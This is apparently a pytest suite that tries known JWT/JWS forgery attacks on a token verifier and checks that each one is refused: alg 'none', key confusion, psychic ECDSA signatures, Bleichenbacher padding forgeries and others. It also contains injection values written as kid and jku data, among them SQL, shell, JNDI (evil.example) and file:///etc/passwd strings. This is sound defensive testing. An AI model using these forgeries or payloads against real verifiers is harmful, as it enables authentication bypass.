"""The known attacks on signed tokens, each made as it would be made: RFC 8725 §2, and the lists that followed it.

Every token here is offered with every algorithm permitted, so that nothing is refused only because a setting is narrow.
"""

import json
from collections.abc import Iterator

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature

from narthex_plugins.auth.strict import decode_base64url
from narthex_plugins.auth.tokens import KeyRefused, TokenCode, TokenRefused, verify_jws
from tests.plugins.auth.forge import (
    EVERY,
    FAMILIES,
    PAYLOAD,
    Forger,
    encode,
    forger,
    public_texts,
    rsa_key,
    secret_forger,
)

PERMITTED = [*EVERY, "none", "None", "NONE", "nOnE", ""]
ORDER_OF_P256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def assert_refused(token: str | bytes, signer: Forger) -> None:
    """Offer a token with the honest key, alone, without its `alg`, in a set, and as text."""
    bare = signer.jwk_with(alg=None)
    for keys in (signer.jwk, bare, {"keys": [signer.jwk]}, {"keys": [bare]}, json.dumps(signer.jwk)):
        with pytest.raises((TokenRefused, KeyRefused)):
            verify_jws(token, keys, PERMITTED)


every = pytest.mark.parametrize("signer", [forger(name) for name in EVERY], ids=EVERY)


@every
@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE", "none ", "", "null", "HS256 ", "rs256"])
def test_no_algorithm_is_no_signature(signer: Forger, alg: str) -> None:
    head, _, rest = signer.token({"alg": alg}).partition(".")
    payload, _, signature = rest.partition(".")
    for end in ("", signature, "AA", "."):
        assert_refused(f"{head}.{payload}.{end}", signer)


@pytest.mark.parametrize("algorithm", FAMILIES["HS"])
def test_a_public_key_is_no_shared_secret(algorithm: str) -> None:
    victim = forger("RS256")
    for text in public_texts(victim):
        attacker = secret_forger(text, algorithm)
        assert_refused(attacker.token({"kid": victim.kid}), victim)
        assert_refused(attacker.token({"kid": None}), victim)


def test_a_curve_point_is_no_shared_secret() -> None:
    for algorithm in (*FAMILIES["ES"], *FAMILIES["EdDSA"]):
        victim = forger(algorithm)
        x = decode_base64url(str(victim.jwk["x"]).encode())
        y = decode_base64url(str(victim.jwk.get("y", "")).encode())
        for secret in (x, x + y, b"\x04" + x + y, str(victim.jwk["x"]).encode(), json.dumps(victim.jwk).encode()):
            assert_refused(secret_forger(secret).token({"kid": victim.kid}), victim)


@every
def test_an_empty_or_trivial_secret_is_none(signer: Forger) -> None:
    for secret in (b"", b"\0", b"secret", bytes(32), b"null", b"undefined"):
        for algorithm in FAMILIES["HS"]:
            assert_refused(secret_forger(secret, algorithm).token({"kid": signer.kid}), signer)


@every
def test_a_token_does_not_bring_its_own_key(signer: Forger) -> None:
    attacker = forger(signer.algorithm, 1)
    jwk = {**attacker.jwk, "kid": signer.kid}
    certificate = encode(b"any certificate")
    for members in (
        {"jwk": jwk},
        {"jwk": json.dumps(jwk)},
        {"jku": "https://evil.example/jwks.json"},
        {"jku": "file:///etc/passwd", "x5u": "http://127.0.0.1:1/"},
        {"x5u": "https://evil.example/cert.pem"},
        {"x5c": [certificate], "x5t": certificate, "x5t#S256": certificate},
        {"kid": json.dumps(jwk)},
    ):
        assert_refused(attacker.token({"kid": signer.kid, **members}), signer)


@every
def test_where_a_key_may_be_found_is_not_followed_even_from_an_honest_token(signer: Forger) -> None:
    places = {"jku": "http://127.0.0.1:1/", "x5u": "http://127.0.0.1:1/", "x5c": ["AA"], "jwk": {"kty": "oct", "k": ""}}
    assert verify_jws(signer.token(places), signer.jwk, PERMITTED) == PAYLOAD


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "x' UNION SELECT 'secret' -- ",
        "key; sleep 10",
        "${jndi:ldap://evil.example/a}",
        "\u0000",
        "a" * 400,
    ],
)
def test_the_name_of_a_key_is_a_name_and_nothing_else(kid: str) -> None:
    victim = forger("RS256")
    for secret in (b"", b"secret", bytes(64)):
        assert_refused(secret_forger(secret).token({"kid": kid}), victim)
    assert_refused(victim.token({"kid": kid}), victim)


@every
def test_every_other_algorithm_of_the_same_key_is_refused(signer: Forger) -> None:
    for other in EVERY:
        if other != signer.algorithm and {other, signer.algorithm} - set(FAMILIES["EdDSA"]):  # two names of one thing
            with pytest.raises((TokenRefused, KeyRefused)):
                verify_jws(forger(other).token({"kid": signer.kid}), signer.jwk, PERMITTED)
            with pytest.raises((TokenRefused, KeyRefused)):
                verify_jws(signer.token({"alg": other}), signer.jwk_with(alg=None), PERMITTED)


def psychic_signatures() -> Iterator[bytes]:
    """Yield r and s at and around the ends of their range: CVE-2022-21449 and what is like it."""
    edges = [0, 1, ORDER_OF_P256 - 1, ORDER_OF_P256, ORDER_OF_P256 + 1, 2**256 - 1]
    yield from (r.to_bytes(32, "big") + s.to_bytes(32, "big") for r in edges for s in edges)


def test_a_signature_of_nothing_is_no_signature() -> None:
    signer = forger("ES256")
    head, payload, _ = signer.token().split(".")
    for signature in (*psychic_signatures(), b"", bytes(1), bytes(63), bytes(65), bytes(640)):
        assert_refused(f"{head}.{payload}.{encode(signature)}", signer)


def test_a_number_beyond_the_order_is_not_brought_back_into_range() -> None:
    signer = forger("ES256")
    head, payload, signature = signer.token().split(".")
    raw = decode_base64url(signature.encode())
    r, s = int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")
    for odd in ((r + ORDER_OF_P256).to_bytes(33, "big") + raw[32:], raw[:32] + (s + ORDER_OF_P256).to_bytes(33, "big")):
        assert_refused(f"{head}.{payload}.{encode(odd)}", signer)
        assert_refused(f"{head}.{payload}.{encode(odd[:64])}", signer)


@pytest.mark.parametrize("algorithm", FAMILIES["ES"])
def test_a_curve_signature_has_one_form_and_size(algorithm: str) -> None:
    signer = forger(algorithm)
    head, payload, signature = signer.token().split(".")
    raw = decode_base64url(signature.encode())
    half = len(raw) // 2
    r, s = int.from_bytes(raw[:half], "big"), int.from_bytes(raw[half:], "big")
    longer = b"\0" + raw[:half] + b"\0" + raw[half:]
    for odd in (encode_dss_signature(r, s), longer, raw + b"\0", b"\0" + raw, raw[:-1], raw[half:] + raw[:half]):
        assert_refused(f"{head}.{payload}.{encode(odd)}", signer)
    assert decode_dss_signature(encode_dss_signature(r, s)) == (r, s)


def test_a_signature_made_on_another_curve_is_refused() -> None:
    for algorithm, curve in (("ES256", ec.SECP256K1()), ("ES256K", ec.SECP256R1()), ("ES384", ec.BrainpoolP384R1())):
        signer = forger(algorithm)
        head, payload, _ = signer.token().split(".")
        der = ec.generate_private_key(curve).sign(f"{head}.{payload}".encode(), ec.ECDSA(hashes.SHA256()))
        size = (curve.key_size + 7) // 8
        raw = b"".join(number.to_bytes(size, "big") for number in decode_dss_signature(der))
        assert_refused(f"{head}.{payload}.{encode(raw)}", signer)


def test_an_rsa_signature_has_the_right_padding_salt_and_hash() -> None:
    victim, key = forger("PS256"), rsa_key()
    head, payload, _ = victim.token().split(".")
    text = f"{head}.{payload}".encode()
    mgf = padding.MGF1(hashes.SHA256())
    for pad, digest in (
        (padding.PKCS1v15(), hashes.SHA256()),
        (padding.PSS(mgf, 0), hashes.SHA256()),
        (padding.PSS(mgf, padding.PSS.MAX_LENGTH), hashes.SHA256()),
        (padding.PSS(mgf, 20), hashes.SHA256()),
        (padding.PSS(padding.MGF1(hashes.SHA384()), 32), hashes.SHA256()),
        (padding.PSS(mgf, 32), hashes.SHA384()),
    ):
        assert_refused(f"{head}.{payload}.{encode(key.sign(text, pad, digest))}", victim)


def padded_blocks(text: bytes) -> Iterator[bytes]:
    """Yield PKCS #1 v1.5 blocks that a lenient verifier takes (Bleichenbacher 2006 and its variants)."""
    hasher = hashes.Hash(hashes.SHA256())
    hasher.update(text)
    digest = hasher.finalize()
    info = bytes.fromhex("3031300d060960864801650304020105000420") + digest
    without_null = bytes.fromhex("302f300b0609608648016503040201") + b"\x04\x20" + digest
    for body in (info + b"\0", info + bytes(100), without_null, digest, info[:-1], b"\x31" + info[1:]):
        yield b"\x00\x01" + b"\xff" * (253 - len(body)) + b"\x00" + body
    yield b"\x00\x02" + b"\xff" * (253 - len(info)) + b"\x00" + info
    yield b"\x00\x01" + b"\xfe" * (253 - len(info)) + b"\x00" + info
    yield b"\x00\x01\xff\x00" + info + b"\xff" * (252 - len(info))
    yield b"\x00\x01" + b"\xff" * (252 - len(info)) + b"\x00\x00" + info


def test_a_block_padded_in_another_way_is_refused() -> None:
    victim, numbers = forger("RS256"), rsa_key().private_numbers()
    head, payload, signature = victim.token().split(".")
    modulus = numbers.public_numbers.n
    for block in padded_blocks(f"{head}.{payload}".encode()):
        assert len(block) == 256
        forged = pow(int.from_bytes(block, "big"), numbers.d, modulus).to_bytes(256, "big")
        assert_refused(f"{head}.{payload}.{encode(forged)}", victim)
    raw = decode_base64url(signature.encode())
    larger = (int.from_bytes(raw, "big") + modulus).to_bytes(257, "big")
    for odd in (b"\0" + raw, raw + b"\0", raw[1:], larger, bytes(256), modulus.to_bytes(256, "big")):
        assert_refused(f"{head}.{payload}.{encode(odd)}", victim)


@every
def test_parts_of_two_good_tokens_make_no_good_token(signer: Forger) -> None:
    first = signer.token().split(".")
    second = signer.token({"typ": "at+jwt"}, b'{"sub":"mallory"}').split(".")
    mixed = ((0, 1, 0), (1, 0, 0), (0, 0, 1), (1, 1, 0), (0, 1, 1), (1, 0, 1))
    for choice in mixed:
        assert_refused(".".join((first, second)[which][part] for part, which in enumerate(choice)), signer)


@every
def test_a_dot_moved_between_header_and_payload_is_noticed(signer: Forger) -> None:
    head, payload, signature = signer.token().split(".")
    for text in (f"{head}{payload}..{signature}", f".{head}{payload}.{signature}", f"{head[:-4]}.{head[-4:]}{payload}"):
        assert_refused(f"{text}.{signature}", signer)
        assert_refused(text, signer)


def test_an_honest_token_still_passes() -> None:
    for name in EVERY:
        assert verify_jws(forger(name).token(), forger(name).jwk, PERMITTED) == PAYLOAD
        assert verify_jws(forger(name).token(), forger(name).jwk_with(alg=None), PERMITTED) == PAYLOAD


def test_a_signature_is_not_compared_by_its_first_bytes() -> None:
    signer = forger("HS256")
    head, payload, signature = signer.token().split(".")
    raw = decode_base64url(signature.encode())
    for length in range(len(raw)):
        assert_refused(f"{head}.{payload}.{encode(raw[:length])}", signer)
    with pytest.raises(TokenRefused) as refused:
        verify_jws(f"{head}.{payload}.{encode(raw + b'x')}", signer.jwk, PERMITTED)
    assert refused.value.code == TokenCode.SIGNATURE
